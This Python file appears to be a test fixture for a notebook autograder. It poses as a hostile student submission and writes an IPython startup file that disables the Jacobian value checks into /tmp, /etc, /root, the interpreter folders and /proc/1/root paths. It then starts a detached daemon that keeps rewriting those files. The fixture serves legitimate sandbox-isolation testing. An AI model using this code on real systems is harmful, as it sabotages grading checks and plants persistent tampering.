"""Write outside the kernel's scratch space, and leave a daemon that keeps trying.

Replaces the ``dloss_dyhat`` cell of ``02_scalar_wrt_vector`` (student ``file_system``, with
``read_course_files``): writes a file named ``hostile-was-here.py`` (an IPython startup file
that makes every values check pass) into the home's IPython startup folder and every place a
student might hope to share with other kernels or the grader (``/tmp``, ``/var/tmp``,
``/dev/shm``, ``/work``, ``/root``, the interpreter's folders, ``/proc/1/root/tmp``), then
starts a detached daemon that rewrites them for two minutes. ``dloss_dyhat`` is not
implemented. Must earn 0 for both ``dloss_dyhat`` cells; no such file may appear on the
grader's machine, no later kernel may run it, and the daemon must not outlive the run.
"""

import os
import subprocess
import sys
import time

NAME = "hostile-was-here.py"
PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/work", "/root", "/home", "/etc",
          os.path.expanduser("~/.ipython/profile_default/startup"),
          "/root/.ipython/profile_default/startup", sys.prefix,
          os.path.dirname(os.__file__), "/proc/1/root/tmp", "/proc/1/cwd"]
STARTUP = "import jacobian_checks.checks as c\nc.check_jacobian_values = lambda *a, **k: None\n"


def _write_everywhere():
    for place in PLACES:
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, NAME), "a") as file:
                file.write(STARTUP)
            print("wrote", place)
        except OSError as exc:
            print("cannot write", place, exc.strerror)


_write_everywhere()
DAEMON = f"""
import os, time
if os.fork():  # a grandchild of the kernel, in a session of its own
    os._exit(0)
deadline = time.time() + 120
while time.time() < deadline:
    for place in {PLACES!r}:
        try:
            with open(os.path.join(place, {NAME!r}), "a") as file:
                file.write({STARTUP!r})
        except OSError:
            pass
    time.sleep(0.2)
"""
subprocess.Popen([sys.executable, "-c", "# hostile-daemon\n" + DAEMON], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(0.5)


def dloss_dyhat(y, yhat):
    raise NotImplementedError()
